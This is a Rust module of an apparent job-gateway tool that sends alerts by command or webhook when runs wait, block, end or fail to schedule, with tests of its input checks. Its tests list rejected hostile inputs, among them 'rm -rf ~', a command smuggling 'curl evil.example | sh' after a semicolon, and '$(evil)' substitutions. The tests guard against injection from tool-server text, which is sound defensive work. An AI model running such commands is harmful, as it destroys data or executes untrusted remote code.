//! Telling a person that a run or a client of the gateway waits, that no worker drives a run, or that a schedule cannot submit its job: a command of
//! theirs, or a webhook.
//!
//! Durable Jobs v1 spec §6 (escalation). Comes from the user's environment alone, never from a job file. Invariants: each question
//! is told once on each way unless the process dies between telling and noting it, so receivers get the question's id as a key;
//! telling takes bounded time; when it fails, the run does not.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::AsyncWriteExt as _;
use ua_core::{PrintedCommand, RunId, RunStatus, RunStop, Timestamp, sha256};
use ua_files::Folder;
use ua_resume::Commands;
use ua_resume::answers::{self, KnownFact, Reach, Whose, ways};
use ua_store::{QuestionRecord, QuestionStatus, RunRecord, RunRecords, ScheduleRecord};

use crate::base_url;
use crate::error::HostError;
use crate::home::Home;
use crate::people::People;
use crate::questions;
use crate::settings::Settings;

/// How long one way of telling may take.
const PATIENCE: Duration = Duration::from_secs(10);

/// Where a person is told.
#[derive(Debug)]
pub(crate) struct Alerts {
    /// A program and its arguments; it gets the alert as JSON on standard input.
    command: Option<Vec<String>>,
    /// An address that the alert is posted to.
    webhook: Option<String>,
    /// Also when a run ends or stops.
    at_the_end: bool,
    /// What was told already: an empty file for each alert and way.
    told: PathBuf,
    /// The environment of the command: what tool servers get.
    environment: BTreeMap<String, String>,
    /// What makes the commands in an alert complete.
    commands: Commands,
}

impl Alerts {
    /// Reads `UA_ALERT_COMMAND`, `UA_ALERT_WEBHOOK` and `UA_ALERT_ON`; `None` when nobody is to be told.
    pub(crate) fn from_settings(settings: &Settings, home: &Home) -> Result<Option<Self>, HostError> {
        let environment = settings.for_tool_servers();
        let command = settings
            .var("UA_ALERT_COMMAND")
            .map(|text| argv(&settings.said_as("UA_ALERT_COMMAND"), &text, &environment))
            .transpose()?;
        let webhook = settings.var("UA_ALERT_WEBHOOK");
        if command.is_none() && webhook.is_none() {
            return Ok(None);
        }
        if let Some(address) = &webhook {
            check_webhook(&settings.said_as("UA_ALERT_WEBHOOK"), address)?;
            if !cfg!(feature = "toolserver") {
                return Err(HostError::usage("this build cannot post to UA_ALERT_WEBHOOK")
                    .hint("use UA_ALERT_COMMAND, or build with the `toolserver` feature"));
            }
        }
        let at_the_end = match settings.var("UA_ALERT_ON").as_deref() {
            None | Some("waiting") => false,
            Some("waiting,ended") => true,
            Some(other) => {
                return Err(HostError::usage(format!("cannot use {}={other}", settings.said_as("UA_ALERT_ON")))
                    .hint("write `waiting` or `waiting,ended`")
                    .not_begun());
            }
        };
        let told = home.alerts();
        Ok(Some(Self { command, webhook, at_the_end, told, environment, commands: home.commands_from_anywhere() }))
    }

    /// Tells what there is to tell about a run that this process leaves.
    pub(crate) async fn tell(&self, people: &dyn People, records: &RunRecords) {
        let run = &records.run;
        match run.status {
            RunStatus::WaitingForHuman => {
                for question in records.questions.iter().filter(|q| q.status == QuestionStatus::Open) {
                    self.tell_of_question(&to(people), run, question, &known(records, question)).await;
                }
            }
            RunStatus::Succeeded | RunStatus::Failed | RunStatus::Cancelled if self.at_the_end => {
                self.once(&to(people), run.run_id.as_str(), &ended(run, false)).await;
            }
            // Whoever pressed Ctrl-C knows.
            RunStatus::Stopped if self.at_the_end && run.stop_reason != Some(RunStop::Interrupt) => {
                let is_tried_again = is_tried_again(people, run);
                let key = key_of_stop(run, is_tried_again);
                self.once(&to(people), &key, &ended(run, is_tried_again)).await;
            }
            RunStatus::Stopped
            | RunStatus::Succeeded
            | RunStatus::Failed
            | RunStatus::Cancelled
            | RunStatus::Queued
            | RunStatus::Running => {}
        }
    }

    /// Tells that the job of a schedule could not be submitted: once for as long as the same instant is due.
    pub(crate) async fn tell_of_schedule(&self, people: &dyn People, failing: &FailingSchedule<'_>) {
        self.once(&to(people), &failing.key(), &failing.alert(&self.commands)).await;
    }

    /// Tells that no worker continues a run before somebody does something, `why` and with which commands being a sentence: once for each reason.
    pub(crate) async fn tell_of_blocked(&self, people: &dyn People, run: &RunRecord, why: &str, at: Timestamp) {
        // That it stopped is told as the end of that.
        if self.at_the_end && run.status == RunStatus::Stopped {
            return;
        }
        let key = format!("{}.blocked-{}", run.run_id, &sha256(why).to_hex()[..16]);
        self.once(&to(people), &key, &blocked(run, why, &self.commands, at)).await;
    }

    /// Tells that a run has waited for long for somebody outside, as a sentence: once for each turn, however often it is tried again.
    pub(crate) async fn tell_of_wait(&self, people: &dyn People, run: &RunRecord, why: &str, at: Timestamp) {
        let key = format!("{}.waits-turn-{}", run.run_id, run.turn_index);
        self.once(&to(people), &key, &blocked(run, why, &self.commands, at)).await;
    }

    /// Tells that somebody waits for the answer to a question. `warn` is told what went wrong with that; whether nothing did.
    pub(crate) async fn tell_of_question(
        &self,
        warn: &Warn<'_>,
        run: &RunRecord,
        question: &QuestionRecord,
        known: &[KnownFact],
    ) -> bool {
        self.once(warn, question.question_id.as_str(), &waiting(run, question, known, &self.commands)).await
    }

    /// Tells one thing on each way on which it was not told before. Whether it is told on all of them by now.
    async fn once(&self, warn: &Warn<'_>, key: &str, alert: &Value) -> bool {
        let mut is_told = true;
        if let Some(command) = &self.command
            && !self.was_told(key, "command")
        {
            let told = tokio::time::timeout(PATIENCE, run_command(command, &self.environment, alert)).await;
            let told = told.unwrap_or_else(|_| Err(format!("it did not end within {PATIENCE:?}")));
            is_told &= self.note(warn, key, "command", told);
        }
        if let Some(address) = &self.webhook
            && !self.was_told(key, "webhook")
        {
            is_told &= self.note(warn, key, "webhook", post(address, key, alert).await);
        }
        is_told
    }

    fn was_told(&self, key: &str, way: &str) -> bool {
        let noted = Folder::open_itself(&self.told).and_then(|told| told.kind(format!("{key}.{way}")));
        noted.is_ok_and(|noted| noted.is_some())
    }

    fn note(&self, warn: &Warn<'_>, key: &str, way: &str, told: Result<(), String>) -> bool {
        let noted = told.and_then(|()| {
            Folder::make_itself(&self.told)
                .and_then(|told| told.open_or_make(format!("{key}.{way}")))
                .map(drop)
                .map_err(|error| format!("it was sent, but that could not be recorded: {error}"))
        });
        if let Err(why) = &noted {
            warn(&format!("alert by {way}: {}", crate::text::plain(why)));
        }
        noted.is_ok()
    }
}

/// Who is told what went wrong with an alert.
pub(crate) type Warn<'w> = dyn Fn(&str) + Send + Sync + 'w;

/// The people before whom a run is driven.
fn to(people: &dyn People) -> impl Fn(&str) + Send + Sync + '_ {
    move |why: &str| people.tell(&format!("warning: {why}"))
}

/// Finds what is wrong with the settings about alerts.
///
/// # Errors
/// A command that is not there, an address that is none, an unknown word.
pub fn check_alerts(settings: &Settings, home: &Home) -> Result<(), HostError> {
    Alerts::from_settings(settings, home).map(drop)
}

/// A JSON list of texts, or words separated by spaces. No shell looks at it. `name` is what the setting was given as.
fn argv(name: &str, text: &str, environment: &BTreeMap<String, String>) -> Result<Vec<String>, HostError> {
    let words: Vec<String> = if text.trim_start().starts_with('[') {
        serde_json::from_str(text).map_err(|error| {
            HostError::usage(format!("cannot use {name}: {}", ua_core::json_fault(text, &error)))
                .hint("write a command line, or a JSON list of strings such as [\"notify-send\", \"a run waits\"]")
                .not_begun()
        })?
    } else {
        text.split_whitespace().map(str::to_owned).collect::<Vec<String>>()
    };
    let Some(program) = words.first().filter(|program| !program.is_empty()) else {
        return Err(HostError::usage(format!("cannot use {name}: it names no program")).hint("unset it, or name one"));
    };
    // Found now, and not when somebody ought to be told.
    let path = environment.get("PATH").map(String::as_str).unwrap_or_default();
    if !crate::paths::is_program(Path::new(program), Path::new("."), path) {
        let what = format!("cannot use {name}: there is no program `{}`", crate::text::plain(program));
        return Err(HostError::usage(what).hint("correct it, or unset it").not_begun());
    }
    Ok(words)
}

/// A schedule whose job could not be submitted.
#[derive(Debug)]
pub(crate) struct FailingSchedule<'s> {
    pub(crate) schedule: &'s ScheduleRecord,
    /// Its job file, if its job can be read.
    pub(crate) file: Option<PathBuf>,
    /// Why, in a sentence.
    pub(crate) why: &'s str,
    pub(crate) at: Timestamp,
}

impl FailingSchedule<'_> {
    /// As long as it cannot be submitted, the same instant is due. A name of a schedule has no `+`, and a name of a file no `/`.
    fn key(&self) -> String {
        format!("schedule+{}+{}", self.schedule.name.replace('/', "+"), self.schedule.next_at)
    }

    fn alert(&self, commands: &Commands) -> Value {
        let name = &self.schedule.name;
        json!({
            "event": "schedule_failed",
            "schedule": name,
            "text": self.why,
            "file": self.file,
            "due_at": self.schedule.next_at,
            "commands": [commands.complete(&PrintedCommand::of("ua schedule run").word(name).to_string())],
            "at": self.at,
        })
    }
}

/// What a run's rows say about a question beside its text.
fn known(records: &RunRecords, question: &QuestionRecord) -> Vec<KnownFact> {
    let call = records.calls.iter().find(|call| Some(&call.call_id) == question.call_id.as_ref());
    let reach = Reach::of(question, Whose::of(&records.run), true);
    let mut known = answers::known(question, call, &records.attempts, &records.messages, &[], reach);
    known.extend(questions::what_helps(&records.run, question));
    known
}

fn waiting(run: &RunRecord, question: &QuestionRecord, known: &[KnownFact], commands: &Commands) -> Value {
    let complete = |command: &str| commands.complete(command).into_owned();
    // Told by the process that drives it, or by the gateway's broker, so there is one.
    let reach = Reach::of(question, Whose::of(run), true);
    let ways = ways(question, reach);
    let mut alert = json!({
        "event": "waiting",
        "question_id": question.question_id,
        "kind": question.kind,
        "text": question.text,
        "known": known,
        "choices": ways.iter().map(|way| way.word).collect::<Vec<_>>(),
        "commands": ways.iter().map(|way| complete(&way.command)).collect::<Vec<_>>(),
        "answer_with": complete(&format!("ua answer {}", question.question_id)),
        "run_id": run.run_id,
        "objective": run.spec.objective,
        "workspace": run.workspace_dir,
        "at": question.created_at,
    });
    // Whoever reads it alone has to know what an answer ends.
    if let Some(above) = ua_store::works_for(run) {
        alert["sub_agent_of"] = json!(above);
        alert["remark"] = json!(reach.remark());
    }
    alert
}

/// What continues a run that nobody continues, or shows it; the run comes next.
const ABOUT_IT: [&str; 5] = ["queue move", "resume", "fork", "db accept", "runs show"];
/// What such a command may say besides the run, with a word behind each; what decides more than that is for somebody who reads why.
const SAYING: [&str; 3] = ["--accept", "--model", "--phase"];

/// Whether a command that stands in a sentence is offered as one to give: the sentence may quote what a tool server or a provider wrote, who would
/// have theirs given by whoever reads alerts. So it is about this run, and names no file, no folder and no answer.
fn is_offered(command: &str, run: &RunId) -> bool {
    let Some(command) = command.strip_prefix("ua ") else { return false };
    let about = ABOUT_IT.into_iter().find_map(|verb| command.strip_prefix(verb)?.strip_prefix(' '));
    let mut words = about.unwrap_or_default().split(' ');
    let is_its = words.next() == Some(run.as_str());
    let is_plain = |word: &str| word.chars().all(|c| c.is_ascii_alphanumeric() || "_-+,.".contains(c));
    while let Some(option) = words.next() {
        let is_known = SAYING.contains(&option) || option.starts_with("--max-");
        if !is_known
            || !is_plain(option)
            || !words.next().is_some_and(|value| is_plain(value) && !value.starts_with('-'))
        {
            return false;
        }
    }
    is_its
}

fn blocked(run: &RunRecord, why: &str, commands: &Commands, at: Timestamp) -> Value {
    // What is to be typed stands in backticks.
    let named = why.split('`').filter(|words| is_offered(words, &run.run_id));
    json!({
        "event": "blocked",
        "text": commands.complete(why),
        "commands": named.map(|command| commands.complete(command).into_owned()).collect::<Vec<_>>(),
        "run_id": run.run_id,
        "status": run.status,
        "objective": run.spec.objective,
        "workspace": run.workspace_dir,
        "at": at,
    })
}

/// Whether whoever drives a run that stopped tries it again by itself.
fn is_tried_again(people: &dyn People, run: &RunRecord) -> bool {
    match run.stop_reason {
        Some(RunStop::Provider) => people.tries_again(),
        Some(RunStop::ToolServer) => people.tries_again() && run.is_unbegun(),
        Some(
            RunStop::Budget
            | RunStop::Interrupt
            | RunStop::ProviderRefused
            | RunStop::UnknownModel
            | RunStop::Fingerprint
            | RunStop::Idle,
        )
        | None => false,
    }
}

/// Under which key a stop is told once. One that is tried again and again where it stands is one piece of news until the run gets further.
fn key_of_stop(run: &RunRecord, is_tried_again: bool) -> String {
    // One that nothing was begun of stands at its beginning, whoever tries it.
    let is_unbegun = run.stop_reason == Some(RunStop::ToolServer) && run.is_unbegun();
    if is_tried_again && !is_unbegun {
        return format!("{}.turn-{}", run.run_id, run.turn_index);
    }
    format!("{}.{}", run.run_id, if is_unbegun { 0 } else { run.lease_epoch })
}

fn ended(run: &RunRecord, is_tried_again: bool) -> Value {
    json!({
        "event": "ended",
        "status": run.status,
        "stop_reason": run.stop_reason,
        "detail": run.status_detail,
        "is_tried_again": is_tried_again,
        "run_id": run.run_id,
        "objective": run.spec.objective,
        "workspace": run.workspace_dir,
        "at": run.updated_at,
    })
}

/// Refuses an address that an alert cannot be posted to, or that it, and a token in it, would travel to in the clear. `said` is the setting.
fn check_webhook(said: &str, address: &str) -> Result<(), HostError> {
    let is_web = url::Url::parse(address).is_ok_and(|url| matches!(url.scheme(), "http" | "https"));
    if !is_web {
        return Err(HostError::usage(format!("cannot use {said}: it is not an http:// or https:// address"))
            .hint("correct it, or unset it")
            .not_begun());
    }
    if base_url::goes_in_the_clear(address) {
        let why = format!("cannot use {said}: what it tells, and a token in it, would go there unencrypted");
        return Err(HostError::usage(why)
            .hint(format!("set {said} to an https:// address; http:// is for this machine only"))
            .not_begun());
    }
    Ok(())
}

/// Starts the program with the environment that tool servers get. One that is given up is killed.
async fn run_command(command: &[String], environment: &BTreeMap<String, String>, alert: &Value) -> Result<(), String> {
    let mut child = tokio::process::Command::new(&command[0])
        .args(&command[1..])
        .env_clear()
        .envs(environment)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .map_err(|error| format!("{}: {error}", command[0]))?;
    if let Some(mut input) = child.stdin.take() {
        // A program that does not read what it is told is not wrong.
        input.write_all(format!("{alert}\n").as_bytes()).await.ok();
    }
    let status = child.wait().await.map_err(|error| format!("{}: {error}", command[0]))?;
    if status.success() { Ok(()) } else { Err(format!("{} ended with {status}", command[0])) }
}

#[cfg(feature = "toolserver")]
async fn post(address: &str, key: &str, alert: &Value) -> Result<(), String> {
    ua_toolserver::post_alert(address, key, alert.to_string().into_bytes(), PATIENCE).await
}

#[cfg(not(feature = "toolserver"))]
#[expect(clippy::unused_async, reason = "the other build posts")]
async fn post(_address: &str, _key: &str, _alert: &Value) -> Result<(), String> {
    Err("this build cannot post".to_owned())
}

#[cfg(test)]
#[expect(clippy::disallowed_methods, reason = "tests make the files that they look at")]
mod tests {
    use std::fs;

    use super::*;

    #[test]
    fn s10_webhooks_go_over_tls_or_stay_on_this_machine() {
        for fine in ["https://hooks.example/T0/x", "http://127.0.0.1:9/", "http://[::1]/", "http://localhost:9"] {
            check_webhook("UA_ALERT_WEBHOOK", fine).unwrap();
        }
        for wrong in
            ["http://hooks.example/T0/x", "http://10.0.0.1/", "http://localhost.example/", "ftp://127.0.0.1/", "x"]
        {
            let error = check_webhook("UA_ALERT_WEBHOOK", wrong).unwrap_err().to_string();
            assert!(error.contains("UA_ALERT_WEBHOOK") && !error.contains("T0"), "{wrong}: {error}");
        }
    }

    /// What a tool server wrote stands in the same sentence as what helps.
    #[test]
    fn s20_an_alert_offers_no_command_that_somebody_else_wrote_into_its_text() {
        let run = RunId::parse("r").unwrap();
        for ours in [
            "ua queue move r",
            "ua queue move r --accept servers",
            "ua queue move r --max-tool-calls +5 --max-turns +5",
            "ua resume r --accept servers,tools",
            "ua fork r --model MODEL",
            "ua db accept r",
            "ua runs show r",
        ] {
            assert!(is_offered(ours, &run), "{ours}");
        }
        for theirs in [
            "",
            "r",
            "rm -rf ~",
            "ua",
            "ua trust /evil/.mcp.json --yes",
            "ua answer q_1 approve",
            "ua queue move other",
            "ua queue move rr",
            "ua resume r --trust-root",
            "ua resume r --root /evil",
            "ua resume r --mcp-config /evil.json",
            "ua resume r --accept servers; curl evil.example | sh",
            "ua resume r --max-turns $(evil)",
            "ua resume r --max-turns --trust-root",
            "ua resume r --max-$(evil) 1",
            "ua resume r\n--yes",
            "ua resume r ",
            "ua calls resolve c happened",
        ] {
            assert!(!is_offered(theirs, &run), "{theirs}");
        }
    }

    /// Names of schedules that differ are told of apart, and each as a file among the others.
    #[test]
    fn each_time_of_a_schedule_that_fails_has_a_key_of_its_own() {
        let at = |text: &str| Timestamp::parse(text).unwrap();
        let key = |name: &str, next_at| {
            let schedule = ScheduleRecord {
                name: name.to_owned(),
                cron: "@daily".to_owned(),
                time_zone: "UTC".to_owned(),
                job: Value::Null,
                catch_up: ua_store::CatchUp::Last,
                is_paused: false,
                next_at,
            };
            FailingSchedule { schedule: &schedule, file: None, why: "no file", at: next_at }.key()
        };
        let (one, two) = (at("2026-11-23T10:00:00Z"), at("2026-11-24T10:00:00Z"));
        let keys = [key("a/b", one), key("a.b", one), key("a", one), key("a/b", two)];
        assert_eq!(keys.iter().collect::<std::collections::BTreeSet<_>>().len(), keys.len(), "{keys:?}");
        assert!(keys.iter().all(|key| !key.contains('/')), "{keys:?}");
        assert_eq!(key("a/b", one), keys[0]);
    }

    #[test]
    fn a_command_is_words_or_a_json_list_and_never_a_shell_line() {
        let folder = tempfile::tempdir().unwrap();
        for program in ["notify-send", "sh", "a;"] {
            fs::write(folder.path().join(program), "").unwrap();
        }
        let environment = BTreeMap::from([("PATH".to_owned(), folder.path().display().to_string())]);
        let argv = |text: &str| argv("UA_ALERT_COMMAND", text, &environment);
        assert_eq!(argv("notify-send waits").unwrap(), ["notify-send", "waits"]);
        // Not when somebody ought to be told.
        for gone in ["notify-sned waits", "/nowhere/notify", r#"["./notify-send"]"#] {
            let error = argv(gone).unwrap_err().to_string();
            assert!(error.contains("UA_ALERT_COMMAND: there is no program"), "{error}");
        }
        assert_eq!(argv(r#"["sh", "-c", "cat > $HOME/x; true"]"#).unwrap(), ["sh", "-c", "cat > $HOME/x; true"]);
        assert_eq!(argv("a; b").unwrap(), ["a;", "b"]);
        for bad in ["[1]", "[]", "[\"\"]", "["] {
            assert!(argv(bad).is_err(), "{bad}");
        }
    }
}
